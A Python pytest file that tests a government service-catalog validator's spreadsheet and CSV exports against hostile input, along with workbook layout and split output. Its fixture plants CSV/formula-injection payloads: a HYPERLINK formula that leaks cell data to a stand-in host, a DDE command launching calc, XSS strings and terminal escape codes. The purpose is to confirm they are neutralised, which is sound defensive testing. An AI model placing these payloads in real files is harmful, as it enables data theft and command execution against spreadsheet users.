"""The annotated workbook, the score workbook/CSV and the split workbooks, on hostile and real data.

Hostile file: formulas (= + - @, tab, CR prefixes) in item names, units and values, markup,
terminal escape sequences and C0 controls XLSX cannot hold, and a file name that is itself a
formula.  Every workbook and CSV we write from it must hold no formula cell and no text cell that
starts a formula; controls are replaced visibly.
"""
from __future__ import annotations

import csv
import os

import pytest
from conftest import CATALOGS, run

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_UNITS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+cmd|" /C calc"!A0',
                 '<img src=x onerror="window.__pwned=1">']


@pytest.fixture
def hostile_csv(tmp_path):
    with open(CATALOGS / "clean_guides.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))[:9]
    for i, r in enumerate(rows):
        r["实施主体"] = HOSTILE_UNITS[i % 3]
    rows[0]["事项名称"] = '=1+1'
    rows[1]["办理地点"] = "-2+3"
    rows[2]["设定依据"] = "\t=SUM(A1:A9)"
    rows[3]["咨询方式"] = "\r=1"
    rows[4]["办理时间"] = "上午\x01\x1b[31m九点\x07"
    rows[5]["受理条件"] = "<script>window.__pwned=1</script>"
    rows[6]["办理流程"] = "@SUM(1+1)"
    rows[7]["网办地址"] = "javascript:alert(1)"
    rows[8]["是否网办"] = "=2"
    path = tmp_path / "=1+2.csv"
    with open(path, "w", encoding="utf-8-sig", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    return path


def _xlsx_cells(path):
    import openpyxl

    wb = openpyxl.load_workbook(path)
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                yield ws.title, c


def assert_inert_xlsx(path):
    n = 0
    for title, c in _xlsx_cells(path):
        assert c.data_type != "f", (path, title, c.coordinate, c.value)
        if isinstance(c.value, str):
            n += 1
            assert not c.value.startswith(FORMULA_START), (path, title, c.coordinate, c.value)
            assert "\x1b" not in c.value and "\x01" not in c.value
        if c.comment is not None:
            assert not c.comment.text.startswith(FORMULA_START)
    assert n, path


def assert_inert_csv(path):
    with open(path, encoding="utf-8-sig", newline="") as fh:
        for row in csv.reader(fh):
            for v in row:
                assert not v.startswith(FORMULA_START) or _is_number(v), (path, v)


def _is_number(v: str) -> bool:
    try:
        float(v)
        return True
    except ValueError:
        return False


def test_every_workbook_and_csv_from_hostile_data_is_inert(hostile_csv, tmp_path):
    base = CATALOGS / "national_base_sample.csv"
    written = []
    out = tmp_path / "v.xlsx"
    assert run("validate", hostile_csv, "--format", "xlsx", "-o", out, "-q").exit_code == 1
    written.append(out)
    split = tmp_path / "split"
    assert run("validate", hostile_csv, "--format", "xlsx", "--split-by", "实施主体", "-o", split, "-q").exit_code == 1
    parts = sorted(split.iterdir())
    assert len(parts) == 4                                   # 汇总 + three units
    assert all(p.suffix == ".xlsx" for p in parts)
    written += parts
    out = tmp_path / "c.xlsx"
    assert run("conform", hostile_csv, "--base", base, "--format", "xlsx", "-o", out, "-q",
               "--fail-on", "never").exit_code in (0, 1)
    written.append(out)
    for command in ("revoked", "certificates"):
        out = tmp_path / f"{command}.xlsx"
        assert run(command, hostile_csv, "--format", "xlsx", "-o", out, "-q").exit_code in (0, 1)
        written.append(out)
    for fmt in ("xlsx", "csv"):
        out = tmp_path / f"s.{fmt}"
        assert run("score", hostile_csv, "--format", fmt, "-o", out, "-q").exit_code == 0
        written.append(out)
        out = tmp_path / f"sb.{fmt}"
        assert run("score", hostile_csv, "--base", base, "--format", fmt, "-o", out, "-q").exit_code == 0
        written.append(out)
    for path in written:
        (assert_inert_csv if str(path).endswith(".csv") else assert_inert_xlsx)(path)
    # the values are kept, made inert and visible, not dropped
    import openpyxl

    wb = openpyxl.load_workbook(tmp_path / "v.xlsx")
    marked = wb[next(n for n in wb.sheetnames if n.startswith("标注-"))]
    texts = {c.value for row in marked.iter_rows() for c in row if isinstance(c.value, str)}
    assert "'-2+3" in texts and "'=2" in texts and "'@SUM(1+1)" in texts
    shown = next(t for t in texts if t.startswith("上午") and t.endswith(("九点␇", "九点\\x07")))
    assert "\x1b" not in shown and ("␛[31m" in shown or "\\x1b[31m" in shown)   # visible, not acting
    files = {c.value for c in wb["问题清单"]["A"][1:]}
    assert files - {None} == {"'=1+2.csv"}
    for path in parts[1:]:     # split file names are the (formula-looking) unit names, made safe
        assert "/" not in path.name and "\\" not in path.name


def test_cell_text_neutralises_and_replaces_visibly():
    from validators.exporters.safety import cell_text, sheet_title

    assert cell_text("=1+1") == "'=1+1" and cell_text("\t=1") == "'\t=1" and cell_text("\r=1") == "'\r=1"
    assert cell_text("+1") == "'+1" and cell_text("-1") == "'-1" and cell_text("@x") == "'@x"
    for raw in ("a\x00b\x1fc", "x\ud800y"):                   # replaced visibly, whichever notation
        out = cell_text(raw)
        assert out[0] == raw[0] and out[-1] == raw[-1] and len(out) > 2 and not any(
            ord(ch) < 32 or 0xD800 <= ord(ch) <= 0xDFFF for ch in out)
    assert cell_text("正常文本") == "正常文本" and cell_text(None) == ""
    assert len(cell_text("长" * 40_000)) == 32_767
    used: set[str] = set()
    assert sheet_title("标注-a/b:c*d?e[f]", used) == "标注-a_b_c_d_e_f_"
    assert sheet_title("标注-A/b:c*d?e[f]", used) == "标注-A_b_c_d_e_f__2"     # Excel ignores case
    assert len(sheet_title("x" * 50, used)) == 31


def test_annotated_workbook_layout_zh(tmp_path):
    import openpyxl

    out = tmp_path / "a.xlsx"
    r = run("validate", CATALOGS / "sample_guides.xlsx", "--format", "xlsx", "-o", out, "-q")
    assert r.exit_code == 1
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames[:6] == ["汇总", "问题清单", "规则统计", "要素合格率", "实施主体", "标注-sample_guides-办事指南"]
    summary = {row[0]: row[1] for row in wb["汇总"].iter_rows(min_row=2, values_only=True)}
    assert summary["结论"] == "未通过" and summary["读取行数"] == 241 and summary["错误"] == 28
    clean = next(c for c in wb["汇总"]["B"] if c.row > 1 and wb["汇总"].cell(c.row, 1).value == "无错误行占比")
    assert clean.number_format == "0.00%" and abs(clean.value - 214 / 241) < 1e-6
    for ws in wb:
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:"), ws.title
        assert ws.freeze_panes in ("A2", "B2", "C2"), ws.title
        assert ws.column_dimensions["A"].width and ws.column_dimensions["A"].width > 5
    issues = wb["问题清单"]
    assert [c.value for c in issues[1]] == ["文件", "工作表", "行", "要素", "事项", "级别", "规则", "当前值", "说明", "修改建议"]
    assert {c.value for c in issues["F"][1:]} <= {"错误", "警告", "提示"}
    units = wb["实施主体"]
    assert [c.value for c in units[1]] == ["实施主体", "行数", "有错误的行", "无错误行占比"]
    assert units.max_row == 19 and units["D2"].number_format == "0.00%"
    marked = wb["标注-sample_guides-办事指南"]
    comments = [c.comment.text for row in marked.iter_rows(min_row=2) for c in row if c.comment]
    assert comments and all("修改建议：" in t for t in comments)


def test_annotated_workbook_english(tmp_path):
    import openpyxl

    out = tmp_path / "a.xlsx"
    run("validate", CATALOGS / "sample_guides.xlsx", "--format", "xlsx", "-o", out, "-q", "--lang", "en")
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames[:5] == ["Summary", "Findings", "Rules", "Elements", "Units"]
    assert wb.sheetnames[5].startswith("marked-")
    assert {c.value for c in wb["Findings"]["F"][1:]} <= {"error", "warning", "info"}
    assert wb["Summary"]["A2"].value == "result"


def test_conform_workbook_has_rates_and_gate(tmp_path):
    import openpyxl

    out = tmp_path / "c.xlsx"
    r = run("conform", CATALOGS / "local_catalog_sample.csv", "--base", CATALOGS / "national_base_sample.csv",
            "--format", "xlsx", "-o", out, "-q", "--min-rate", "0.99", "--fail-on", "never")
    assert r.exit_code == 1                                              # gate fails
    wb = openpyxl.load_workbook(out)
    summary = {row[0]: row for row in wb["汇总"].iter_rows(min_row=2, values_only=True)}
    assert summary["门禁指标"][1] == "实施清单符合率" and summary["门禁结果"][1] == "未通过"
    rate, num, den = summary["实施清单符合率"][1:4]
    assert abs(rate - num / den) < 1e-6
    assert "符合率" in wb.sheetnames
    kinds = {row[1] for row in wb["符合率"].iter_rows(min_row=2, values_only=True)}
    assert {"全部", "实施主体", "事项类型"} <= kinds


def test_split_workbooks_hold_only_their_unit(tmp_path):
    import openpyxl

    folder = tmp_path / "out"
    r = run("validate", CATALOGS / "sample_guides.xlsx", "--format", "xlsx", "--split-by", "实施主体", "-o", folder, "-q")
    assert r.exit_code == 1
    names = sorted(p.name for p in folder.iterdir())
    assert "汇总.xlsx" in names and "灵山县公安局.xlsx" in names
    whole = openpyxl.load_workbook(folder / "汇总.xlsx")
    body_col = [c.value for c in whole["标注-sample_guides-办事指南"][1]].index("实施主体")
    total = 0
    for name in names:
        if name == "汇总.xlsx":
            continue
        wb = openpyxl.load_workbook(folder / name)
        unit = name[:-5]
        marked = wb[next(n for n in wb.sheetnames if n.startswith("标注-"))]
        bodies = {row[body_col] for row in marked.iter_rows(min_row=2, values_only=True)}
        assert bodies == {unit}, name
        total += wb["问题清单"].max_row - 1
    whole_rows = sum(1 for row in whole["问题清单"].iter_rows(min_row=2, values_only=True) if row[2] is not None)
    assert total == whole_rows                      # every row-level finding is in exactly one unit's book


def test_workbook_never_reopens_the_input(tmp_path):
    """The 标注 rows come from the scan: the workbook is complete after the input is gone."""
    import shutil

    import openpyxl

    from validators import validate
    from validators.exporters.xlsx import write_xlsx
    from validators.report.marked import MarkedRows

    src = tmp_path / "guides.xlsx"
    shutil.copy(CATALOGS / "sample_guides.xlsx", src)
    report = validate(str(src), observers=[MarkedRows()])
    os.remove(src)
    write_xlsx(report, str(tmp_path / "a.xlsx"))
    wb = openpyxl.load_workbook(tmp_path / "a.xlsx")
    marked = wb[next(n for n in wb.sheetnames if n.startswith("标注-"))]
    rows_with_findings = {f["row"] for f in report.iter_findings() if f["row"] is not None}
    assert {r[0] for r in marked.iter_rows(min_row=2, values_only=True)} == rows_with_findings


def test_marked_rows_are_bounded(tmp_path):
    import openpyxl

    from validators import validate
    from validators.exporters.xlsx import write_xlsx
    from validators.report.marked import MarkedRows

    report = validate(str(CATALOGS / "sample_guides.xlsx"), observers=[MarkedRows(max_rows=5)])
    write_xlsx(report, str(tmp_path / "a.xlsx"))
    wb = openpyxl.load_workbook(tmp_path / "a.xlsx")
    marked = wb[next(n for n in wb.sheetnames if n.startswith("标注-"))]
    values = [r for r in marked.iter_rows(min_row=2, values_only=True)]
    assert len(values) == 6 and "上限 5 行" in values[-1][1]


def test_split_and_output_usage_errors(tmp_path):
    sample = CATALOGS / "sample_guides.xlsx"
    assert run("validate", sample, "--split-by", "实施主体", "-q").exit_code == 2              # needs xlsx
    assert run("validate", sample, "--format", "xlsx", "--split-by", "实施主体", "-q").exit_code == 2   # needs -o
    assert run("validate", sample, "--format", "xlsx", "--split-by", "no-such-column", "-o", tmp_path / "d",
               "-q").exit_code == 2
    assert run("validate", sample, "--format", "xlsx", "-o", tmp_path, "-q").exit_code == 2    # a folder
    (tmp_path / "f").write_text("x")
    assert run("validate", sample, "--format", "xlsx", "--split-by", "实施主体", "-o", tmp_path / "f",
               "-q").exit_code == 2
    assert run("score", sample, "--format", "xlsx", "-q").exit_code == 2
